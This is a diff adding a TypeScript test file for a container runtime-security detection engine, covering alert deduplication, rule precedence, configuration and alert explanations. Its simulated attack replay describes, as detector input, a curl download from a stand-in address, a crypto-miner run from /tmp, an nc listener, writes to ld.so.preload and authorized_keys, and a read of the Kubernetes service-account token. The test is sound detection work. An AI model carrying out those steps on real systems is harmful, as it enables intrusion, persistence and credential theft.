@@ -1,0 +1,289 @@
+import assert from 'node:assert/strict';
+import sinon from 'sinon';
+import { defineRule, type Rule } from '../../models/rules/types.ts';
+import { rules } from '../../models/rules/index.ts';
+import type { RuntimeEvent } from '../../collector/event.ts';
+import {
+  connect,
+  exec,
+  fire,
+  firedRules,
+  learnThenStable,
+  listen,
+  none,
+  one,
+  open,
+  syscalls,
+  testEngine,
+  write,
+  MIN,
+  T0,
+} from '../support/events.ts';
+
+// a steady web service: what the attack part is judged against
+const steady: RuntimeEvent[] = [
+  exec('/usr/bin/app', { parents: ['/usr/bin/containerd-shim-runc-v2'] }),
+  exec('/bin/sh', { args: ['sh', '-c', 'date'], parents: ['/usr/bin/app'] }),
+  exec('/bin/date', { parents: ['/bin/sh'] }),
+  write('/var/lib/app/state.db'),
+  write('/tmp/tmp.Xa81kQz0pL', 'create'),
+  open('/etc/app/config.yaml'),
+  listen(8080),
+  connect('10.0.0.5', 5432),
+  connect('10.0.0.7', 443, {}, 'api.example.com'),
+  syscalls(['read', 'write', 'epoll_wait', 'futex', 'accept4']),
+];
+
+describe('models/engine', () => {
+  describe('cooldown dedup', () => {
+    it('repeats inside the window increment count of the open alert (isNew=false)', () => {
+      const e = testEngine({ engine: { cooldownMs: 10 * MIN } });
+      const t = learnThenStable(e, steady);
+      const [first] = fire(e, exec('/usr/bin/curl'), t);
+      assert.equal(first.isNew, true);
+      assert.equal(first.alert.count, 1);
+      const [second] = fire(e, exec('/usr/bin/curl', { pid: 7 }), t + 5 * MIN);
+      assert.equal(second.isNew, false);
+      assert.equal(second.alert, first.alert);
+      assert.equal(first.alert.count, 2);
+      assert.equal(first.alert.time, new Date(t).toISOString(), 'time stays the first occurrence');
+      assert.equal(first.alert.lastSeen, new Date(t + 5 * MIN).toISOString());
+      assert.equal(e.raised.get('unexpected-exec'), 1);
+    });
+
+    it('a repeat after the window makes a new alert', () => {
+      const e = testEngine({ engine: { cooldownMs: 10 * MIN } });
+      const t = learnThenStable(e, steady);
+      const [a] = fire(e, exec('/usr/bin/curl'), t);
+      const [b] = fire(e, exec('/usr/bin/curl'), t + 10 * MIN);
+      assert.equal(b.isNew, true);
+      assert.notEqual(b.alert, a.alert);
+      assert.notEqual(b.alert.id, a.alert.id);
+      assert.equal(b.alert.dedupKey, a.alert.dedupKey);
+      assert.equal(b.alert.count, 1);
+      assert.equal(a.alert.count, 1);
+      assert.equal(e.raised.get('unexpected-exec'), 2);
+    });
+
+    it('the window slides from the latest repeat (current behaviour)', () => {
+      const e = testEngine({ engine: { cooldownMs: 10 * MIN } });
+      const t = learnThenStable(e, steady);
+      const [a] = fire(e, exec('/usr/bin/curl'), t);
+      for (let i = 1; i <= 5; i++) assert.equal(fire(e, exec('/usr/bin/curl'), t + i * 9 * MIN)[0].isNew, false);
+      assert.equal(a.alert.count, 6);
+    });
+
+    it('different dedup keys are different alerts; the same key in another workload too', () => {
+      const e = testEngine();
+      const t = learnThenStable(e, [...steady, ...steady.map((ev) => ({ ...ev, workload: { ...ev.workload!, id: 'shop/Deployment/api', name: 'api' } }))]);
+      const a = one(e, exec('/usr/bin/curl'), t);
+      const b = one(e, exec('/usr/bin/wget'), t);
+      const c = one(e, exec('/usr/bin/curl', { workload: 'shop/Deployment/api' }), t);
+      assert.equal(new Set([a.dedupKey, b.dedupKey, c.dedupKey]).size, 3);
+      assert.equal(new Set([a.id, b.id, c.id]).size, 3);
+    });
+
+    it('restored open alerts keep folding repeats after a restart', () => {
+      const e1 = testEngine();
+      const t = learnThenStable(e1, steady);
+      const a = one(e1, exec('/usr/bin/curl'), t);
+      const e2 = testEngine();
+      learnThenStable(e2, steady);
+      e2.restoreOpen([structuredClone(a)]);
+      const [u] = fire(e2, exec('/usr/bin/curl'), t + MIN);
+      assert.equal(u.isNew, false);
+      assert.equal(u.alert.id, a.id);
+      assert.equal(u.alert.count, 2);
+    });
+
+    it('open-alert state is bounded; forgotten keys alert anew', () => {
+      const e = testEngine({ engine: { maxOpenAlerts: 10 } });
+      const t = learnThenStable(e, steady);
+      for (let i = 0; i < 30; i++) one(e, exec(`/opt/tool${String.fromCharCode(97 + (i % 26))}${i >= 26 ? 'x' : ''}`), t + i);
+      // the first ones were evicted: they raise a new alert inside the window
+      assert.equal(fire(e, exec('/opt/toola'), t + 100)[0].isNew, true);
+    });
+
+    it('ids are deterministic: same key, instant and node → same id', () => {
+      const mk = () => {
+        const e = testEngine();
+        const t = learnThenStable(e, steady);
+        return one(e, exec('/usr/bin/curl'), t);
+      };
+      assert.equal(mk().id, mk().id);
+    });
+  });
+
+  describe('one event, one alert', () => {
+    it('a built-in hit suppresses the novelty hit for the same event', () => {
+      const e = testEngine();
+      const t = learnThenStable(e, steady);
+      assert.deepEqual(firedRules(e, exec('/tmp/kinsing'), t), ['exec-writable-path']);
+      assert.deepEqual(firedRules(e, write('/usr/bin/ls', 'create'), t), ['write-system-path']);
+      assert.deepEqual(firedRules(e, listen(4444, { exe: '/usr/bin/nc' }), t), ['listener-by-tool']);
+      assert.deepEqual(firedRules(e, connect('127.66.6.6', 3333), t), ['miner-port-egress']);
+      assert.deepEqual(firedRules(e, syscalls(['read', 'ptrace']), t), ['dangerous-syscall']);
+      assert.deepEqual(firedRules(e, exec('/usr/bin/apt-get', { args: ['apt-get', 'install', 'nmap'] }), t), ['package-manager']);
+    });
+
+    it('the novelty hit stands when no built-in fires', () => {
+      const e = testEngine();
+      const t = learnThenStable(e, steady);
+      assert.deepEqual(firedRules(e, exec('/usr/bin/curl'), t), ['unexpected-exec']);
+      assert.deepEqual(firedRules(e, connect('127.66.6.6', 8443), t), ['unexpected-connect']);
+    });
+
+    it('several built-ins: the most severe speaks and names the others', () => {
+      const e = testEngine();
+      const t = learnThenStable(e, steady);
+      none(e, write('/tmp/x.part', 'create'), t); // /tmp/* was learned (from the temp name)
+      // written, then run from /tmp: drift (critical) and writable path (high) both match
+      const a = one(e, exec('/tmp/x.part'), t + 1);
+      assert.equal(a.rule, 'drift-exec');
+      assert.equal(a.severity, 'critical');
+      assert.match(a.description, /Also matched: exec-writable-path, unexpected-exec\./);
+      // a deleted binary in /tmp: fileless (critical) outranks the writable path (high)
+      const b = one(e, exec('/tmp/app (deleted)'), t + 2);
+      assert.equal(b.rule, 'fileless-exec');
+      assert.match(b.description, /Also matched: exec-writable-path/);
+    });
+
+    it('a built-in repeat (isNew=false) still suppresses novelty', () => {
+      const e = testEngine();
+      const t = learnThenStable(e, steady);
+      one(e, exec('/tmp/kinsing'), t);
+      const ups = fire(e, exec('/tmp/kinsing'), t + 1);
+      assert.deepEqual(ups.map((u) => [u.alert.rule, u.isNew]), [['exec-writable-path', false]]);
+    });
+  });
+
+  describe('configuration', () => {
+    it('disabled rules never run', () => {
+      const e = testEngine({ engine: { rules: { 'shell-spawned': { enabled: false }, 'unexpected-exec': { enabled: false } } } });
+      none(e, exec('/bin/sh', { args: ['sh'], parents: ['/usr/bin/python3'] }));
+      const t = learnThenStable(e, steady);
+      none(e, exec('/usr/bin/curl'), t);
+      // a disabled built-in lets the novelty rule speak for the event
+      const e2 = testEngine({ engine: { rules: { 'exec-writable-path': { enabled: false } } } });
+      const t2 = learnThenStable(e2, steady);
+      assert.deepEqual(firedRules(e2, exec('/tmp/kinsing'), t2), ['unexpected-exec']);
+    });
+
+    it('severity override beats the rule default and a hit-specific severity', () => {
+      const e = testEngine({ engine: { rules: { 'unexpected-exec': { severity: 'critical' }, 'package-manager': { severity: 'low' } } } });
+      const t = learnThenStable(e, steady);
+      assert.equal(one(e, exec('/usr/bin/curl'), t).severity, 'critical');
+      assert.equal(one(e, exec('/bin/sh', { args: ['sh', '-c', 'id'], parents: ['/usr/sbin/nginx'] }), t).severity, 'critical', 'lineage hit is medium by default');
+      assert.equal(one(e, exec('/usr/bin/apt', { args: ['apt', 'update'] }), t).severity, 'low');
+    });
+
+    it('rules only see the event kinds they registered for', () => {
+      const evaluate = sinon.fake.returns(undefined);
+      const spy: Rule = defineRule({
+        id: 'spy',
+        title: 'spy',
+        kinds: ['listen'],
+        severity: 'low',
+        mitre: { technique: 'T0000', name: 'x', tactic: 'x' },
+        novelty: false,
+        evaluate,
+      });
+      const e = testEngine({ rules: [spy] });
+      for (const ev of steady) e.process(ev, T0);
+      assert.equal(evaluate.callCount, 1);
+      assert.equal(evaluate.firstCall.args[0].kind, 'listen');
+    });
+  });
+
+  describe('every alert explains itself', () => {
+    it('novelty alerts carry the closest known items ("expected one of …")', () => {
+      const e = testEngine();
+      const t = learnThenStable(e, steady);
+      const cases: [RuntimeEvent, string][] = [
+        [exec('/usr/bin/curl'), '/usr/bin/app'],
+        [write('/var/lib/app/evil', 'create'), '/var/lib/app/state.db'],
+        [open('/etc/app/secret.yaml'), '/etc/app/config.yaml'],
+        [listen(9000), 'tcp *:8080'],
+        [connect('127.66.6.6', 5432), 'tcp 10.0.0.5:5432'],
+        [syscalls(['personality']), 'accept4'],
+      ];
+      for (const [ev, closest] of cases) {
+        const a = one(e, ev, t);
+        assert.ok(a.rule.startsWith('unexpected-'), a.rule);
+        assert.ok(a.baseline.expected.length > 0 && a.baseline.expected.length <= 5, `${a.rule}: ${a.baseline.expected}`);
+        assert.ok(a.baseline.expected.includes(closest), `${a.rule}: ${closest} not in ${a.baseline.expected}`);
+        assert.match(a.description, /Expected one of: /);
+        assert.match(a.description, /Not in baseline: /);
+        assert.match(a.description, /v1 is stable since /);
+        assert.equal(a.baseline.state, 'stable');
+        assert.equal(a.baseline.version, 1);
+      }
+    });
+
+    it('workload, container, pod, node, image and process ancestry are filled in', () => {
+      const e = testEngine();
+      const a = one(e, exec('/bin/bash', { args: ['bash'], ancestors: [{ exe: '/usr/bin/python3', args: ['python3', 'app.py'] }, { exe: '/sbin/tini' }], node: 'node-z', uid: 0 }), T0);
+      assert.deepEqual(a.workload, {
+        id: 'shop/Deployment/web',
+        namespace: 'shop',
+        kind: 'Deployment',
+        name: 'web',
+        container: 'app',
+        pod: 'web-7d9f8b6c5d-x2x7k',
+        node: 'node-z',
+        image: 'registry.example/web:1.0',
+      });
+      assert.equal(a.process.uid, 0);
+      assert.deepEqual(a.process.ancestors, [{ exe: '/usr/bin/python3', args: ['python3', 'app.py'] }, { exe: '/sbin/tini' }]);
+      assert.equal(a.evidence.parentExe, '/usr/bin/python3');
+      assert.equal(a.source, 'test');
+      assert.equal(a.baseline.state, 'learning');
+      assert.ok(!a.baseline.expected.includes('/bin/bash'), 'the item itself is no explanation');
+    });
+
+    it('a host process without container or pod validates (nulls)', () => {
+      const e = testEngine();
+      const hostEv = (names: string[]): RuntimeEvent => {
+        const ev = syscalls(names, { inContainer: false });
+        ev.workload = { id: 'host/cgroup/system.slice/x.service', kind: 'cgroup', name: 'system.slice/x.service' };
+        ev.process = { pid: 1, exe: '/usr/sbin/x', args: [] };
+        return ev;
+      };
+      const t = learnThenStable(e, [hostEv(['read'])]);
+      const a = one(e, hostEv(['init_module']), t);
+      assert.equal(a.rule, 'dangerous-syscall');
+      assert.deepEqual([a.workload.namespace, a.workload.container, a.workload.pod, a.workload.image], [null, null, null, null]);
+      assert.deepEqual([a.process.ppid, a.process.uid, a.process.cwd, a.process.ancestors], [null, null, null, []]);
+    });
+
+    it('every alert of a mixed attack replay validates against the schema', () => {
+      const e = testEngine();
+      const t = learnThenStable(e, steady);
+      const attack: RuntimeEvent[] = [
+        exec('/bin/sh', { args: ['sh'], parents: ['/usr/bin/app'] }),
+        exec('/usr/bin/curl', { args: ['curl', '-o', '/tmp/x', 'http://127.66.6.6/x'], parents: ['/bin/sh'] }),
+        write('/tmp/.x/miner', 'create'),
+        write('/tmp/.x/miner', 'chmod'),
+        exec('/tmp/.x/miner', { parents: ['/bin/sh'] }),
+        exec('memfd:x', { parents: ['/bin/sh'] }),
+        exec('/dev/shm/x', { parents: ['/bin/sh'] }),
+        connect('127.66.6.6', 3333),
+        connect('127.66.6.6', 443, {}, 'pool.supportxmr.com'),
+        connect('127.66.6.6', 8443),
+        listen(4444, { exe: '/usr/bin/nc' }),
+        listen(31337),
+        write('/etc/ld.so.preload'),
+        write('/root/.ssh/authorized_keys'),
+        open('/var/run/secrets/kubernetes.io/serviceaccount/token', { exe: '/bin/cat' }),
+        syscalls(['ptrace', 'mount', 'personality']),
+        exec('/usr/bin/apt-get', { args: ['apt-get', 'install', '-y', 'nmap'] }),
+      ];
+      const seen = new Set<string>();
+      let n = 0;
+      for (const ev of attack) for (const u of fire(e, ev, t + n++ * 1000)) seen.add(u.alert.rule);
+      // every rule of the registry fired at least once (unexpected-file-open: no novel read in this attack)
+      const expected = rules.map((r) => r.id).filter((id) => id !== 'unexpected-file-open' && id !== 'unexpected-syscall' && id !== 'unexpected-file-write');
+      for (const id of expected) assert.ok(seen.has(id), `${id} did not fire: ${[...seen].join(', ')}`);
+    });
+  });
+});
